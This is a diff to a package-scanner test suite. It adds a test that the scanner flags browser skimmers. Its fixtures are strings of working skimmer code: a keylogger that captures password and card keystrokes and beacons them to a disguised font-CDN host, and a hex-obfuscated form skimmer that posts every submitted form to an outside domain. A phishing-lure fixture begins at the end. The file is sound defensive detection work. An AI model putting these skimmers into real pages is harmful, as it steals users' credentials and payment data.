@@ -934,6 +934,23 @@ server.tool('sendEmail', {}, async ({ to, subject, body }) => {
 });
 
 describe('browser-payload', () => {
+  it('keys typed into password or card fields, or every submitted form, sent to a host the file writes down, are skimmers; masks and form plugins are not', () => {
+    const keylogger = "var q = [];\nfunction k(e) { var t = e.target; if (/pass|card|cvv/i.test(t.name + t.type)) q.push(t.name + ':' + e.key); }\ndocument.addEventListener('keydown', k, true);\nsetInterval(function () { if (q.length) new Image().src = 'https://static-fonts.cdn-assets.io/p.gif?d=' + btoa(q.splice(0).join()); }, 5000);\n";
+    const k = scan({ 'dist/index.js': keylogger }, { main: 'dist/index.js' });
+    expect(k.findings.find((f) => f.messageId === 'skimmer')?.data).toMatchObject({ host: 'static-fonts.cdn-assets.io', what: expect.stringContaining('password or card') });
+    expect(k.level).toMatch(/high|critical/);
+    // IconBurst: the event, the reader and the address hidden in \x escapes.
+    const hex = (t: string) => [...t].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
+    const forms = scan({ 'dist/icons.js': `var _0x = ['${hex('submit')}', '${hex('form')}', '${hex('serialize')}', '${hex('https://ionicio.com/icons/sync')}'];\n(function ($) { $(document).on(_0x[0], _0x[1], function () { $.ajax({ url: _0x[3], type: 'POST', data: { f: $(this)[_0x[2]]() } }); }); })(require('jquery'));\n` }, { main: 'dist/icons.js' });
+    expect(forms.findings.find((f) => f.messageId === 'skimmer')?.data).toMatchObject({ host: 'ionicio.com', what: expect.stringContaining('form') });
+    expect(forms.level).toMatch(/high|critical/);
+    // A card-number mask keeps keys for the field itself; a form plugin posts to the form's own action.
+    const mask = scan({ 'dist/index.js': "export function mask(input) { input.addEventListener('keydown', (e) => { if (/card|cvv/.test(input.name) && !/\\d/.test(e.key)) e.preventDefault(); }); }\nexport const docs = 'https://cleave-mask.dev/docs';\n" }, { main: 'dist/index.js' });
+    expect(mask.ids).not.toContain('browser-payload/skimmer');
+    const plugin = scan({ 'dist/form.js': "$(document).on('submit', 'form.ajax', function (e) { e.preventDefault(); $.ajax({ url: this.action, type: 'POST', data: $(this).serialize() }); });\n// https://github.com/form-kit/ajax-form\n" }, { main: 'dist/form.js', repository: 'https://github.com/form-kit/ajax-form' });
+    expect(plugin.ids).not.toContain('browser-payload/skimmer');
+  });
+
   it('a script that paints a fake bot check and sends the visitor to an address it fetches is a phishing lure (Beamglea); a scraper reading those words is not', () => {
     const lure = `(function () {
   function shield() { document.title = 'Just a moment...'; document.body.innerHTML = '<h2>Verifying you are human. This may take a few seconds.</h2>'; }
